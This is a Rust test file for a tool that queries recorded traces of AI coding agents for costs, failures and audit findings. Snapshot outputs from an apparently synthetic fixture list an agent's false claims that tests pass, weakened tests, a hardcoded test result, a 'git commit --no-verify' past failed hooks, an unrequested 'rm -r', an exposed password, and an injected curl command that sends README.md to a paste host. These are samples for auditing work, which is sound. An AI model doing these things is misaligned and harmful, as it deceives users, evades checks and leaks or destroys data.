//! Results of queries.

use serde_json::{Value, json};
use trace_explain::Session;
use trace_explain::costs::Costs;
use trace_explain::prices::Prices;
use trace_query::describe::describe;
use trace_query::{Builder, Query, named};

use crate::support::{Answer, FREE, ask, ask_with, database, sample, written};

#[test]
fn payloads_are_read() {
    let answer = ask(
        "three-children",
        "SELECT c.inference_call_id, payload(c.bundle_id, c.request_payload_id) ->> '$.model' AS model,
           json_array_length(payload(c.bundle_id, c.request_payload_id), '$.input') AS items
         FROM inference_calls AS c WHERE c.agent_path = '/root'",
    );
    insta::assert_snapshot!(answer.lines(), @r"
    6189abe2-8d8e-48b1-94a8-02d271b82a96 | example-large | 4
    f0f846e9-16ac-4e9c-8402-91c88688d51b | example-large | 11
    7b10c211-e63a-471b-a209-6a91c8261e11 | example-large | 15
    b811fb36-b1e6-4629-8327-707f6357c21a | example-large | 18
    b9d9d140-4603-472f-9780-448f837e4201 | example-large | 20
    ");
}

#[test]
fn a_payload_that_cannot_be_had_is_null_and_said() {
    let sql = "SELECT payload_id, payload(bundle_id, payload_id) IS NULL, payload_error(bundle_id, payload_id)
               FROM payloads WHERE payload(bundle_id, payload_id) IS NULL";
    let (answer, outcome) = ask_with(&[sample("damaged")], sql, &FREE).expect("answers");
    insta::assert_snapshot!(answer.lines(), @r"
    raw_payload:11 | 1 | b0: raw_payload:11 could not be read: No such file or directory (os error 2)
    raw_payload:8 | 1 | b0: raw_payload:8 is not a JSON document: EOF while parsing a string at line 12 column 12
    ");
    insta::assert_snapshot!(outcome.notes.join("\n"), @r"
    b0: raw_payload:11 could not be read: No such file or directory (os error 2)
    b0: raw_payload:8 is not a JSON document: EOF while parsing a string at line 12 column 12
    ");
    let sql = "SELECT payload('nobody', 'raw_payload:1'), payload('b0', 'nothing'), payload(NULL, 1), payload_error('b0', 'x')";
    let (answer, outcome) = ask_with(&[sample("damaged")], sql, &FREE).expect("answers");
    insta::assert_snapshot!(answer.lines(), @"NULL | NULL | NULL | b0: x is not a payload of the bundle");
    insta::assert_snapshot!(outcome.notes.join("\n"), @r"
    there is no bundle nobody
    b0: nothing is not a payload of the bundle
    ");
}

#[test]
fn items_of_requests_and_requests_of_items_are_listed() {
    // Both functions must agree, and the counts must agree with both.
    let items = "SELECT c.inference_call_id AS c, i.value AS i
                 FROM inference_calls AS c, json_each(request_items(c.bundle_id, c.inference_call_id)) AS i";
    let calls = "SELECT s.value AS c, i.item_id AS i FROM items AS i, json_each(seen_by(i.bundle_id, i.item_id)) AS s";
    let of_items = ask("three-children", &format!("SELECT DISTINCT c, i FROM ({items}) ORDER BY c, i"));
    let of_calls = ask("three-children", &format!("SELECT c, i FROM ({calls}) ORDER BY c, i"));
    assert_eq!(of_items, of_calls);
    assert!(of_items.rows.len() > 50, "{}", of_items.rows.len());
    let wrong = "SELECT i.item_id FROM items AS i
                 WHERE i.seen_count <> json_array_length(seen_by(i.bundle_id, i.item_id))
                    OR i.first_seen_by IS NOT seen_by(i.bundle_id, i.item_id) ->> '$[0]'";
    assert_eq!(ask("three-children", wrong).rows.len(), 0);
    let wrong = "SELECT c.inference_call_id FROM inference_calls AS c
                 WHERE c.request_items <> json_array_length(request_items(c.bundle_id, c.inference_call_id))
                    OR c.new_items <> (SELECT count(*) FROM items AS i WHERE i.first_seen_by = c.inference_call_id)";
    assert_eq!(ask("three-children", wrong).rows.len(), 0);
    assert_eq!(ask("three-children", "SELECT seen_by('b0', 'x'), request_items('x', 'y')").lines(), "NULL | NULL\n");
}

#[test]
fn regular_expressions_match() {
    let answer = ask(
        "one-agent",
        r"SELECT 'abc' REGEXP 'b.', regexp('^b', 'abc'), NULL REGEXP 'a', 'a' REGEXP NULL, 'Ä' REGEXP '^\w$', x'61' REGEXP 'a'",
    );
    assert_eq!(answer.lines(), "1 | 0 | NULL | NULL | 1 | NULL\n");
}

#[test]
fn plans_are_shown() {
    let plan = ask("one-agent", "EXPLAIN QUERY PLAN SELECT status FROM turns WHERE bundle_id = 'b0' AND turn_id = 'x'");
    let plan: Vec<&String> = plan.rows.iter().filter_map(|row| row.last()).collect();
    assert_eq!(plan, ["SEARCH turns USING INDEX turns_by_turn_id (turn_id=? AND bundle_id=?)"]);
    assert!(!ask("one-agent", "EXPLAIN SELECT 1").rows.is_empty());
    let tables = ask("one-agent", "SELECT count(*) FROM sqlite_schema WHERE type = 'table'").lines();
    assert_eq!(tables, format!("{}\n", describe().tables.len()));
}

#[test]
fn many_bundles_are_asked_at_once() {
    let sql = "SELECT bundle_id, agent_path, status, (SELECT path FROM bundles AS b WHERE b.bundle_id = t.bundle_id) LIKE '%/samples/%'
               FROM threads AS t ORDER BY 1, 2";
    let bundles: Vec<_> = ["one-agent", "three-children"].map(sample).into();
    let (answer, _) = ask_with(&bundles, sql, &FREE).expect("answers");
    insta::assert_snapshot!(answer.lines(), @r"
    b0 | /root | completed | 1
    b1 | /root | completed | 1
    b1 | /root/changelog | completed | 1
    b1 | /root/docs | completed | 1
    b1 | /root/speed | completed | 1
    ");
}

#[test]
fn subtrees_sum_up() {
    let sql = "SELECT s.agent_path, s.threads, s.inference_calls, s.input_tokens, a.input_tokens, s.money
               FROM v_cost_by_subtree AS s
               JOIN v_cost_by_agent AS a ON a.bundle_id = s.bundle_id AND a.thread_id = s.thread_id
               ORDER BY 1";
    insta::assert_snapshot!(ask("three-children", sql).lines(), @r"
    /root | 4 | 14 | 8139 | 5349 | NULL
    /root/changelog | 1 | 2 | 751 | 751 | NULL
    /root/docs | 1 | 3 | 1730 | 1730 | NULL
    /root/speed | 1 | 4 | 309 | 309 | NULL
    ");
}

#[test]
fn prices_put_money_on_calls() {
    let prices = std::fs::read_to_string(sample("prices.toml")).expect("reads");
    let prices = Prices::parse(&prices).expect("prices");
    let query = Query::new(
        "SELECT agent_path, count(money), round(sum(money), 6), max(currency) FROM costs GROUP BY agent_path",
    )
    .expect("compiles");
    let session = Session::open(&sample("three-children")).expect("opens");
    let expected = Costs::new(session.trace(), Some(&prices));
    let mut builder = Builder::in_memory(&query).expect("begins").with_prices(Some(prices));
    builder.add("b0", session).expect("adds");
    let mut answer = Answer::default();
    builder.finish().expect("finishes").ask(&query, &FREE, &mut answer).expect("answers");
    insta::assert_snapshot!(answer.lines(), @r"
    /root | 5 | 0.008152 | EUR
    /root/changelog | 2 | 0.001785 | EUR
    /root/docs | 3 | 0.000477 | EUR
    /root/speed | 1 | 0.000962 | EUR
    ");
    let sum: f64 = answer.rows.iter().map(|row| row[2].parse::<f64>().expect("money")).sum();
    let total = expected.total.cost.expect("prices were given").known.to_f64();
    assert!((sum - total).abs() < 1e-6, "{sum} {total}");
}

#[test]
fn named_queries_answer() {
    let bundles: Vec<_> = ["one-agent", "three-children", "damaged"].map(sample).into();
    let mut answers = String::new();
    for named in named::all() {
        let query = Query::new(named.sql).expect("compiles");
        let mut answer = Answer::default();
        database(&query, &bundles).ask(&query, &FREE, &mut answer).expect("answers");
        answers.push_str(&format!("@{} ({} rows)\n  {}\n", named.name, answer.rows.len(), answer.columns.join(" | ")));
        for row in answer.rows.iter().take(3) {
            let row: Vec<String> = row.iter().map(|value| value.chars().take(40).collect()).collect();
            answers.push_str(&format!("  {}\n", row.join(" | ").replace('\n', "⏎")));
        }
    }
    insta::assert_snapshot!(answers, @r#"
    @failed-turns (3 rows)
      bundle_id | agent_path | turn_id | status | duration_ms | error
      b1 | /root/speed | 019cae19-068c-7e4f-8bc5-13e5906a18ab | failed | 39268 | the provider answers 503: too many reque
      b2 | /root | 019cae4f-eec4-7216-bdb6-44e0c849ee7a | running | NULL | NULL
      b2 | /root/measure | 019cae50-6241-7d3d-8a41-b19d4660d693 | running | NULL | NULL
    @failed-tools (4 rows)
      bundle_id | agent_path | tool_call_id | name | failure | exit_code | duration_ms | input | output
      b0 | /root | call_b6b9aeef0d2df7ab | exec_command | exit code | 101 | 6427 | cargo test --quiet | running 12 tests⏎.....F......⏎⏎failures:
      b1 | /root/docs | call_bb23595cdb12878b | exec_command | exit code | 2 | 17 | target/release/lantern dim | error: dim needs a wick or --all⏎
      b2 | /root | call_724af2a5e21b59c8 | wait_agent | no end | NULL | NULL | {"timeout_ms":600000} | NULL
    @tool-failures-by-kind (5 rows)
      kind | name | calls | failures | percent | kinds
      exec_command | exec_command | 15 | 3 | 20.0 | exit code,no end
      wait_agent | wait_agent | 4 | 1 | 25.0 | no end
      spawn_agent | spawn_agent | 4 | 0 | 0.0 | NULL
    @slowest-tools (20 rows)
      bundle_id | agent_path | tool_call_id | name | took_ms | runtime_duration_ms | status | exit_code | input
      b1 | /root/docs | call_f87916ddb06bb977 | exec_command | 22053 | 21298 | completed | 0 | cargo build --release --quiet
      b2 | /root/measure | call_5f9968bb90fd8193 | exec_command | 20902 | 20899 | completed | 0 | cargo build --release --quiet
      b0 | /root | call_67cae465669e4cc4 | exec_command | 8154 | 8149 | completed | 0 | cargo test --quiet
    @slowest-inference-calls (28 rows)
      bundle_id | agent_path | inference_call_id | model | duration_ms | status | input_tokens | cached_input_tokens | output_tokens | output_per_second
      b1 | /root/speed | a58c3dd4-4f44-430e-abe0-e436c861fb73 | example-large | 2845 | completed | 309 | 0 | 43 | 15.1
      b1 | /root/docs | 8665a9e6-5886-4d2c-8be3-12d166bdfec6 | example-small | 2108 | completed | 304 | 0 | 82 | 38.9
      b2 | /root | f08f0904-9edd-4541-9e2e-f8d202ff2cfa | example-large | 1590 | completed | 825 | 640 | 42 | 26.4
    @tokens-by-agent (7 rows)
      bundle_id | agent_path | inference_calls | input_tokens | cached_input_tokens | cached_percent | output_tokens | reasoning_output_tokens | money | currency
      b1 | /root | 5 | 5349 | 3712 | 69.4 | 517 | 76 | NULL | NULL
      b0 | /root | 5 | 4857 | 3200 | 65.9 | 439 | 155 | NULL | NULL
      b2 | /root | 6 | 4109 | 2816 | 68.5 | 253 | 0 | NULL | NULL
    @tokens-by-model (2 rows)
      model | provider_name | inference_calls | input_tokens | cached_input_tokens | output_tokens | reasoning_output_tokens | money | currency
      example-large | example | 22 | 15375 | 9984 | 1345 | 231 | NULL | NULL
      example-small | example | 6 | 2985 | 1408 | 348 | 0 | NULL | NULL
    @cost-by-subtree (7 rows)
      bundle_id | agent_path | threads | inference_calls | input_tokens | cached_input_tokens | output_tokens | reasoning_output_tokens | money | currency
      b0 | /root | 1 | 5 | 4857 | 3200 | 439 | 155 | NULL | NULL
      b1 | /root | 4 | 14 | 8139 | 4736 | 870 | 76 | NULL | NULL
      b1 | /root/changelog | 1 | 2 | 751 | 256 | 93 | 0 | NULL | NULL
    @retries (1 rows)
      bundle_id | agent_path | turn_id | turn_status | failed_calls | calls | lost_ms | error
      b1 | /root/speed | 019cae19-068c-7e4f-8bc5-13e5906a18ab | failed | 3 | 4 | 631 | the provider answers 503: too many reque
    @context-growth (28 rows)
      bundle_id | agent_path | inference_call_id | request_items | new_items | input_tokens | more_tokens | cached_percent
      b0 | /root | 7ef1fd0e-d154-4fcd-9f84-10633ef306ac | 4 | 4 | 507 | NULL | 0.0
      b0 | /root | b86c9a98-359e-4b62-87a9-dc6739325fac | 9 | 5 | 855 | 348 | 44.9
      b0 | /root | af60baae-6957-4109-b0da-d8272e600eb1 | 11 | 2 | 999 | 144 | 76.9
    @undelivered (0 rows)
      bundle_id | kind | source_agent_path | target | seq | message
    @longest-waits (4 rows)
      bundle_id | agent_path | tool_call_id | target_agent_path | timeout_ms | duration_ms | status | answer
      b1 | /root | call_ff19ef7d5b51d5eb | NULL | 60000 | 25473 | completed | {"message":"A message arrived.","timed_o
      b2 | /root | call_e39257f87175b860 | NULL | 600000 | 22964 | completed | {"message":"A message arrived.","timed_o
      b1 | /root | call_240fb9c5dc8f97fa | NULL | 60000 | 5 | completed | {"message":"Nothing arrived in time.","t
    @compactions (0 rows)
      bundle_id | agent_path | compaction_id | input_items | replacement_items | input_text_bytes | replacement_text_bytes | tokens_before | tokens_after
    @biggest-items (50 rows)
      bundle_id | agent_path | item_id | kind | role | text_bytes | seen_count | sent_bytes | produced_by_type | produced_by_id
      b0 | /root | conversation_item:9 | function_call_output | tool | 309 | 4 | 1236 | tool_call | call_b6b9aeef0d2df7ab
      b0 | /root | conversation_item:11 | function_call_output | tool | 277 | 3 | 831 | tool_call | call_05a2e18941c3936b
      b1 | /root | conversation_item:48 | message | assistant | 209 | 0 | 0 | inference_call | b9d9d140-4603-472f-9780-448f837e4201
    @biggest-payloads (50 rows)
      bundle_id | payload_id | kind | bytes | path | seq
      b1 | raw_payload:94 | inference_request | 9233 | payloads/94.json | 141
      b1 | raw_payload:88 | inference_request | 8775 | payloads/88.json | 133
      b0 | raw_payload:32 | inference_request | 8406 | payloads/32.json | 49
    @spawn-tree (7 rows)
      bundle_id | agent | nickname | agent_role | status | duration_ms | turns | inference_calls | tool_calls
      b0 | /root | NULL | NULL | completed | 19735 | 1 | 5 | 5
      b1 | /root | NULL | NULL | completed | 46555 | 1 | 5 | 6
      b1 |   /root/changelog | Ada |  | completed | 44995 | 1 | 2 | 1
    @messages (10 rows)
      bundle_id | seq | sender | recipient | kind | delivered | message
      b1 | 19 | /root | /root/changelog | spawn_agent | 1 | Message Type: NEW_TASK⏎Task name: /root/
      b1 | 29 | /root | /root/docs | spawn_agent | 1 | Message Type: NEW_TASK⏎Task name: /root/
      b1 | 39 | /root | /root/speed | spawn_agent | 1 | Message Type: NEW_TASK⏎Task name: /root/
    @idle-gaps (50 rows)
      bundle_id | gap_ms | before_seq | before_type | seq | type | object_id
      b1 | 21052 | 76 | tool_call_ended | 77 | tool_call_runtime_ended | call_f87916ddb06bb977
      b2 | 20899 | 48 | tool_call_runtime_started | 49 | tool_call_runtime_ended | call_5f9968bb90fd8193
      b0 | 8149 | 45 | tool_call_runtime_started | 46 | tool_call_runtime_ended | call_67cae465669e4cc4
    @tool-times (5 rows)
      kind | name | calls | total_ms | median_ms | longest_ms
      exec_command | exec_command | 15 | 60420 | 25 | 22053
      wait_agent | wait_agent | 4 | 48442 | 22964 | 25473
      spawn_agent | spawn_agent | 4 | 52 | 12 | 15
    @never-ended (4 rows)
      bundle_id | type | id | agent_path | started_seq
      b2 | turn | 019cae4f-eec4-7216-bdb6-44e0c849ee7a | /root | 4
      b2 | turn | 019cae50-6241-7d3d-8a41-b19d4660d693 | /root/measure | 69
      b2 | tool_call | call_724af2a5e21b59c8 | /root | 74
    @commands (14 rows)
      bundle_id | agent_path | script | exit_code | duration_ms | output_bytes | cwd
      b0 | /root | git log --oneline -3 | 0 | 19 | 86 | /home/dev/lantern
      b0 | /root | cargo test --quiet | 101 | 6419 | 204 | /home/dev/lantern
      b0 | /root | sed -n '12,20p' src/wick.rs | 0 | 9 | 174 | /home/dev/lantern
    @damage (4 rows)
      bundle_id | severity | code | seq | line | payload_id | message
      b2 | error | torn_tail | NULL | 81 | NULL | the last line breaks off after 228 bytes
      b2 | error | payload_invalid | 14 | NULL | raw_payload:8 | the payload cannot be used: not a JSON d
      b2 | error | payload_missing | 18 | NULL | raw_payload:11 | the payload file is missing
    @protocol-errors (1 rows)
      bundle_id | seq | event_type | message
      b1 | 98 | error | the provider answers 503: too many reque
    @audit (0 rows)
      bundle_id | severity | kind | agent_path | turn_id | seq | message | claim
    @unverified-claims (2 rows)
      bundle_id | verdict | agent_path | turn_id | seq | check | sentence
      b0 | unverifiable | /root | 019cade2-11c5-7575-8917-18de357e3da8 | 51 | test | All 12 tests pass.
      b1 | unverifiable | /root/docs | 019cae19-0678-790d-a00a-293bce34ce56 | 128 | test | One of two commands fails: `lantern dim`
    @actions-not-done (0 rows)
      bundle_id | severity | agent_path | turn_id | seq | claim | message
    @weakened-tests (0 rows)
      bundle_id | kind | agent_path | turn_id | seq | message | act | failed_before
    @risky-acts (0 rows)
      bundle_id | kind | agent_path | turn_id | seq | message | tool_call_id | act
    @checks (6 rows)
      bundle_id | agent_path | turn_id | started_seq | kind | outcome | command | passed | failed | failed_tests
      b0 | /root | 019cade2-11c5-7575-8917-18de357e3da8 | 15 | test | failed | cargo test --quiet | NULL | NULL | NULL
      b0 | /root | 019cade2-11c5-7575-8917-18de357e3da8 | 15 | build | failed | cargo test --quiet | NULL | NULL | NULL
      b0 | /root | 019cade2-11c5-7575-8917-18de357e3da8 | 44 | test | passed | cargo test --quiet | NULL | NULL | NULL
    @changes-since-tests (0 rows)
      bundle_id | agent_path | turn_id | ended_seq | effect | path | last_tests
    @changed-files (1 rows)
      bundle_id | path | changes | deletions | agents
      b0 | /home/dev/lantern/src/wick.rs | 1 | 0 | 1
    "#);
}

#[test]
fn pauses_between_events_with_one_number_are_told_once() {
    let place = tempfile::tempdir().expect("a directory");
    let sample = sample("one-agent");
    std::fs::copy(sample.join("manifest.json"), place.path().join("manifest.json")).expect("copies");
    let log = std::fs::read_to_string(sample.join("trace.jsonl")).expect("reads");
    // The number 45 is there twice, 8,149 ms apart.
    std::fs::write(place.path().join("trace.jsonl"), log.replace("\"seq\":46,", "\"seq\":45,")).expect("writes");
    let sql = named::all().iter().find(|named| named.name == "idle-gaps").expect("is there").sql;
    let (answer, _) = ask_with(&[place.path().to_owned()], sql, &FREE).expect("answers");
    let around = |row: &&Vec<String>| row[2] == "45" || row[4] == "45";
    let told: String = answer.rows.iter().filter(around).map(|row| row.join(" | ") + "\n").collect();
    insta::assert_snapshot!(told, @r"
    b0 | 8149 | 45 | tool_call_runtime_started | 45 | tool_call_runtime_ended | call_67cae465669e4cc4
    b0 | 4 | 44 | tool_call_started | 45 | tool_call_runtime_started | call_67cae465669e4cc4
    b0 | 1 | 45 | tool_call_runtime_ended | 47 | tool_call_ended | call_67cae465669e4cc4
    ");
}

#[test]
fn named_queries_about_audits_answer() {
    let mut answers = String::new();
    for name in [
        "audit",
        "unverified-claims",
        "actions-not-done",
        "weakened-tests",
        "risky-acts",
        "checks",
        "changes-since-tests",
        "changed-files",
    ] {
        let named = named::all().iter().find(|named| named.name == name).expect("a named query");
        answers.push_str(&format!("@{name}\n"));
        for row in ask("untrue.trace", named.sql).rows.iter().take(4) {
            // Ids of turns and calls are long and not of interest here.
            let row = row.iter().filter(|value| !value.starts_with("019d9") && !value.starts_with("call_"));
            let row: Vec<String> = row.map(|value| value.chars().take(60).collect()).collect();
            answers.push_str(&format!("  {}\n", row.join(" | ").replace('\n', "⏎")));
        }
    }
    insta::assert_snapshot!(answers, @r#"
    @audit
      b0 | high | false_success | /root | 59 | said that site tests pass; the last run failed (jest: 1 fail | The tests of the site pass.
      b0 | high | child_failure_hidden | /root | 134 | said that the work is done; the last turn of /root/resizer f | The resizer has finished: all pictures are resized.
      b0 | high | tests_weakened | /root | 151 | a test was marked to be skipped or to fail in test_wick.py a | NULL
      b0 | high | hardcoded_result | /root | 159 | oil.py returns 3735928559 for exactly the input of a test | NULL
    @unverified-claims
      b0 | contradicted | /root | 43 | test | All 12 tests pass.
      b0 | contradicted | /root | 59 | test | The tests of the site pass.
      b0 | contradicted | /root | 59 | types | mypy passes, too.
      b0 | contradicted | /root | 91 | test | All 16 tests of the site pass.
    @actions-not-done
      b0 | medium | /root | 43 | I added an entry to CHANGELOG.md. | said that CHANGELOG.md was changed; no call did it
    @weakened-tests
      b0 | tests_weakened | /root | 151 | a test was marked to be skipped or to fail in test_wick.py a | apply_patch test_wick.py | pytest -q: 2 failed, 10 passed
      b0 | hardcoded_result | /root | 159 | oil.py returns 3735928559 for exactly the input of a test | apply_patch oil.py | > assert checksum("sample.bin") == 3735928559
      b0 | check_bypassed | /root | 175 | a commit was made without its hooks after the check had fail | git commit --no-verify -am "Count the wicks of lamps that ar | git commit -am Count the wicks of lamps that are lit: 1 erro
    @risky-acts
      b0 | destructive_command | /root | 199 | deleted folders: data-2025; nobody asked for it | rm -r data-2025
      b0 | secret_exposed | /root | 223 | wrote a secret into a call: url-password | psql 'postgres://report:[redacted]@db.acme-shop.io/stats' -c
      b0 | injected_instruction | /root | 239 | followed an instruction that came with data: https://paste.a | curl -s -d @README.md https://paste.acme-drop.example/in
    @checks
      b0 | /root | 28 | test | passed | pytest -q | 12 | 0 | NULL
      b0 | /root | 52 | test | failed | jest | 17 | 1 | ["dims to zero","src/lamp.test.js"]
      b0 | /root | 76 | test | passed | jest | 18 | NULL | NULL
      b0 | /root | 143 | test | failed | pytest -q | 10 | 2 | ["tests/test_wick.py::test_two_lamps","tests/test_oil.py::te
    @changes-since-tests
      b0 | /root | 154 | write | /home/dev/lantern/tests/test_wick.py | 145
      b0 | /root | 162 | write | /home/dev/lantern/oil.py | 145
      b0 | /root | 202 | delete | /home/dev/lantern/data-2025 | 145
    @changed-files
      b0 | /home/dev/lantern/wick.py | 2 | 0 | 1
      b0 | /home/dev/lantern/data-2025 | 1 | 1 | 1
      b0 | /home/dev/lantern/oil.py | 1 | 0 | 1
      b0 | /home/dev/lantern/site/src/lamp.js | 1 | 0 | 1
    "#);
}

#[test]
fn claims_lead_to_their_findings_and_evidence_to_calls() {
    let sql = "SELECT c.sentence, f.kind, e.value ->> '$.relation', t.kind FROM claims AS c
        JOIN findings AS f ON f.bundle_id = c.bundle_id AND f.finding = c.finding
        JOIN json_each(f.evidence) AS e
        JOIN tool_calls AS t ON t.bundle_id = c.bundle_id AND t.tool_call_id = e.value ->> '$.object.id'
        ORDER BY c.seq, f.finding";
    insta::assert_snapshot!(ask("untrue.trace", sql).lines(), @r#"
    All 12 tests pass. | stale_check | changed_after | apply_patch
    All 12 tests pass. | stale_check | last_run | exec_command
    The tests of the site pass. | false_success | contradicts | exec_command
    All 16 tests of the site pass. | wrong_figure | contradicts | exec_command
    worker.log says "heap limit of 512 MB exceeded". | unsupported_detail | does_not_hold | exec_command
    "#);
}

fn tool(at: i64, id: &str, kind: &str, preview: &str) -> (i64, &'static str, Value) {
    let summary = json!({ "type": "generic", "label": kind, "input_preview": preview, "output_preview": null });
    let started = json!({
        "type": "tool_call_started", "tool_call_id": id, "model_visible_call_id": id, "code_mode_runtime_tool_id": null,
        "requester": { "type": "model" }, "kind": { "type": kind }, "summary": summary, "invocation_payload": null,
    });
    (at, "t0", started)
}

fn begun() -> Vec<(i64, &'static str, Value)> {
    vec![
        (0, "t0", json!({ "type": "rollout_started", "trace_id": "trace", "root_thread_id": "t0" })),
        (
            1,
            "t0",
            json!({ "type": "thread_started", "thread_id": "t0", "agent_path": "/root", "metadata_payload": null }),
        ),
        (2, "t0", json!({ "type": "codex_turn_started", "codex_turn_id": "t0-turn", "thread_id": "t0" })),
    ]
}

#[test]
fn no_duration_is_negative() {
    let directory = tempfile::tempdir().expect("a directory");
    let mut events = begun();
    events.push(tool(900_000, "c1", "exec_command", "{}"));
    let ended =
        json!({ "type": "tool_call_ended", "tool_call_id": "c1", "status": "completed", "result_payload": null });
    events.push((100_000, "t0", ended));
    events.push((
        100_500,
        "t0",
        json!({ "type": "codex_turn_ended", "codex_turn_id": "t0-turn", "status": "completed" }),
    ));
    let bundle = written(directory.path(), &events);
    let sql = "SELECT t.duration_ms, u.duration_ms, b.duration_ms FROM tool_calls AS t, turns AS u, bundles AS b";
    let (answer, _) = ask_with(&[bundle], sql, &FREE).expect("answers");
    insta::assert_snapshot!(answer.lines(), @"0 | 900498 | 900500");
}

#[test]
fn a_call_without_an_end_took_as_long_as_its_runtime() {
    let directory = tempfile::tempdir().expect("a directory");
    let mut events = begun();
    events.push(tool(1000, "c1", "exec_command", "{}"));
    for (at, event) in [(1100, "tool_call_runtime_started"), (5100, "tool_call_runtime_ended")] {
        let reference = json!({ "raw_payload_id": "raw_payload:1", "kind": { "type": "tool_runtime_event" }, "path": "payloads/1.json" });
        events.push((
            at,
            "t0",
            json!({ "type": event, "tool_call_id": "c1", "status": "failed", "runtime_payload": reference }),
        ));
    }
    let bundle = written(directory.path(), &events);
    for (name, column) in [("slowest-tools", "took_ms"), ("tool-times", "total_ms")] {
        let sql = named::find(name).expect("is there").sql;
        let (answer, _) = ask_with(std::slice::from_ref(&bundle), sql, &FREE).expect("answers");
        let place = answer.columns.iter().position(|name| name == column).expect("a column");
        assert_eq!(answer.rows[0][place], "4000", "{name}");
    }
}

#[test]
fn calls_tell_whom_they_address() {
    let directory = tempfile::tempdir().expect("a directory");
    let mut events = begun();
    let metadata =
        json!({ "type": "thread_started", "thread_id": "t1", "agent_path": "/root/kid", "metadata_payload": null });
    events.push((3, "t1", metadata));
    for (id, kind, preview) in [
        ("c1", "spawn_agent", r#"{"task_name":"later"}"#),
        ("c2", "send_message", r#"{"target":"kid"}"#),
        ("c3", "wait_agent", r#"{"timeout_ms":60000}"#),
        ("c4", "wait_agent", r#"{"targets":["t1","/root/other","gone"],"timeout_ms":-1}"#),
        ("c5", "exec_command", r#"{"target":"kid","timeout_ms":5}"#),
    ] {
        events.push(tool(4, id, kind, preview));
    }
    let bundle = written(directory.path(), &events);
    let sql = "SELECT tool_call_id, target_agent_path, timeout_ms FROM tool_calls ORDER BY 1";
    let (answer, _) = ask_with(&[bundle], sql, &FREE).expect("answers");
    insta::assert_snapshot!(answer.lines(), @r"
    c1 | /root/later | NULL
    c2 | /root/kid | NULL
    c3 | NULL | 60000
    c4 | /root/kid, /root/other, gone | -1
    c5 | NULL | NULL
    ");
    let sql = "SELECT target_agent_path FROM tool_calls WHERE kind = 'spawn_agent' ORDER BY started_seq";
    insta::assert_snapshot!(ask("three-children", sql).lines(), @r"
    /root/changelog
    /root/docs
    /root/speed
    ");
}

#[test]
fn a_deep_tree_has_its_sums_at_once() {
    const DEPTH: usize = 2000;
    let directory = tempfile::tempdir().expect("a directory");
    let mut events = begun();
    let names: Vec<String> = (0..=DEPTH).map(|depth| format!("t{depth}")).collect();
    let reference = |number: usize, kind: &str| json!({ "raw_payload_id": format!("raw_payload:{number}"), "kind": { "type": kind }, "path": format!("payloads/{number}.json") });
    for (depth, name) in names.iter().enumerate().skip(1) {
        let started = json!({
            "type": "thread_started", "thread_id": name, "agent_path": format!("/root/a{depth}"),
            "metadata_payload": reference(depth, "session_metadata"),
        });
        events.push((3, name, started));
    }
    let bundle = written(directory.path(), &events);
    for depth in 1..=DEPTH {
        let spawn = json!({ "parent_thread_id": names[depth - 1], "agent_path": format!("/root/a{depth}") });
        let metadata = json!({ "session_source": { "subagent": { "thread_spawn": spawn } } });
        std::fs::write(bundle.join(format!("payloads/{depth}.json")), metadata.to_string()).expect("writes");
    }
    let bundles = [bundle];
    let sql = "SELECT max(threads), sum(threads) FROM v_cost_by_subtree";
    let (answer, _) = ask_with(&bundles, sql, &FREE).expect("answers");
    assert_eq!(answer.lines(), format!("{} | {}\n", DEPTH + 1, (DEPTH + 1) * (DEPTH + 2) / 2));
    let plan = |sql: &str| ask_with(&bundles, &format!("EXPLAIN QUERY PLAN {sql}"), &FREE).expect("answers").0.lines();
    assert!(!plan(sql).contains("RECURSIVE"), "{}", plan(sql));
}

#[test]
fn ids_lead_indexes() {
    let plan = |sql: &str| ask("three-children", &format!("EXPLAIN QUERY PLAN {sql}")).lines();
    let items = plan(
        "SELECT i.text_bytes FROM inference_calls AS c, json_each(request_items(c.bundle_id, c.inference_call_id)) AS r
         JOIN items AS i ON i.bundle_id = c.bundle_id AND i.item_id = r.value",
    );
    assert!(items.contains("items_by_item_id (item_id=? AND bundle_id=?)"), "{items}");
    let costs = plan("SELECT * FROM v_cost_by_agent");
    assert!(costs.contains("costs_by_thread_id (thread_id=? AND bundle_id=?)"), "{costs}");
    let subtrees = plan("SELECT * FROM v_subtrees");
    assert!(subtrees.contains("threads_by_parent_thread_id (parent_thread_id=? AND bundle_id=?)"), "{subtrees}");
}
